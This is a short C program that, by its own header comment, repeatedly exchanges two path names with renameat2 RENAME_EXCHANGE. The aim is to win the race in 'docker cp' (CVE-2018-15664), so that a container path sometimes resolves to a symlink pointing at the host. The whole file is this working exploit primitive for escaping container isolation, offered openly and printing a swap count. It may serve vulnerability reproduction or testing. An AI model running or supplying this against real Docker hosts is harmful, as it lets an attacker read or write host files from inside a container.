/* SPDX-License-Identifier: Apache-2.0 */
/*
 * swap A B SECONDS: exchange the names A and B (renameat2 RENAME_EXCHANGE) as
 * fast as possible for SECONDS, so that whoever resolves a path through A
 * finds, at any moment, either A's directory or B (a symlink to a host path):
 * the race of `docker cp` (CVE-2018-15664). Prints the number of swaps.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
        if (argc != 4) {
                fprintf(stderr, "usage: swap A B SECONDS\n");
                return 2;
        }
        time_t end = time(NULL) + atoi(argv[3]);
        unsigned long n = 0;
        while (time(NULL) < end) {
                for (int i = 0; i < 1000; i++)
                        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
                                    RENAME_EXCHANGE) == 0)
                                n++;
        }
        printf("swapped %lu times\n", n);
        return 0;
}
